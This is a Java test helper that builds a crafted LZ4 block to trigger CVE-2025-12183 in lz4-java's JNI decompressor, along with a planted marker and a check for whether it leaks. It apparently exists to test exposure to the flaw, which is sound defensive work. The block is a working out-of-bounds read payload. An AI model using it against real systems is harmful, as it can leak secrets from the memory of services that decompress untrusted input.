package dev.cordon.itest;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;

/**
 * CVE-2025-12183: lz4-java's JNI fast decompressor trusts the block's match
 * offsets. This block is one literal, then a match 65535 bytes back (far
 * before the start of the destination), 4096 bytes long, then the five
 * closing literals: decoded into a destination of {@link #DEST_LEN} bytes, it
 * copies 4 KiB of whatever lies 64 KiB before the destination.
 */
final class Lz4Crafted {
    static final int MATCH = 4096;
    static final int DEST_LEN = 1 + MATCH + 5;
    /** The secret planted next to the destination, and what a leak would show. */
    static final byte[] MARKER = "SECRET!!".getBytes(StandardCharsets.US_ASCII);
    static final int SECRET_LEN = 70_000;

    private Lz4Crafted() {
    }

    static byte[] block() {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        b.write(0x1F); // one literal; match length 4 + 15 + what follows the offset
        b.write('x');
        b.write(0xFF); // offset 65535, little-endian
        b.write(0xFF);
        int rest = MATCH - 4 - 15;
        while (rest >= 255) {
            b.write(255);
            rest -= 255;
        }
        b.write(rest);
        b.write(0x50); // the last five literals
        b.writeBytes("yyyyy".getBytes(StandardCharsets.US_ASCII));
        return b.toByteArray();
    }

    static byte[] secret() {
        byte[] s = new byte[SECRET_LEN];
        for (int i = 0; i < s.length; i++) {
            s[i] = MARKER[i % MARKER.length];
        }
        return s;
    }

    static boolean holdsTheSecret(byte[] output) {
        outer:
        for (int i = 0; i + MARKER.length <= output.length; i++) {
            for (int j = 0; j < MARKER.length; j++) {
                if (output[i + j] != MARKER[j]) {
                    continue outer;
                }
            }
            return true;
        }
        return false;
    }
}
